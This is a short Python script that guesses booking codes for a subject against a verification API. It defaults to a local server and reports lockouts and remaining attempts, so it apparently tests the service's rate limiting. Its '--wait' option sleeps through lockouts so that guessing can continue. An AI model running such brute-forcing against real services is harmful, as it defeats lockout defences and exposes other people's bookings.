import argparse
import time

import requests


def attack(args):
    codes = []
    if args.wordlist:
        codes = [line.strip() for line in open(args.wordlist, "r", encoding="utf-8") if line.strip()]
    else:
        codes = ["AAAA-0000", "AAAA-0001", "AAAA-0002", "AAAA-0003", "AAAA-0004"]

    session = requests.Session()
    url = f"{args.base}/subjects/{args.subject}/booking-code/verify"
    total = 0
    start = time.time()
    for code in codes:
        total += 1
        resp = session.post(url, json={"code": code}, timeout=5)
        data = resp.json()
        result = data.get("result")
        print(f"[{total}] {code} -> {resp.status_code} {result} remaining={data.get('remaining_attempts')}")

        if result == "verified":
            duration = time.time() - start
            print(f"Success after {total} attempts in {duration:.2f}s")
            return

        if resp.status_code == 429:
            retry_after = int(resp.headers.get("Retry-After", "0"))
            print(f"Locked out, retry after {retry_after}s")
            if not args.wait:
                return
            time.sleep(retry_after)
    print("No success")


def main():
    parser = argparse.ArgumentParser(description="Guess booking codes for a single subject")
    parser.add_argument("subject")
    parser.add_argument("--wordlist", help="path to a file with one candidate code per line")
    parser.add_argument("--base", default="http://127.0.0.1:8000", help="API base URL")
    parser.add_argument("--wait", action="store_true", help="sleep through lockouts instead of stopping")
    args = parser.parse_args()
    attack(args)


if __name__ == "__main__":
    main()
